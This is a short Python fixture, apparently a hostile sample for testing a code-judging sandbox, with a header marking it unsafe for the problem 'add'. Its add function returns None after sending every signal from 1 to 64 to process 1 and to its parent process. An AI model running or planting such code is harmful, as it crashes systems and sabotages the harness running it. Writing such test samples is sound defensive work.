# problem: add
# verdict: wrong_answer | runtime_error | crashed | blocked
# why: Kills its parent and process 1, with every signal.
# unsafe: true
import os


def add(a, b):
    for number in range(1, 65):
        for pid in {1, os.getppid()}:
            if pid not in {0, os.getpid()}:
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return None
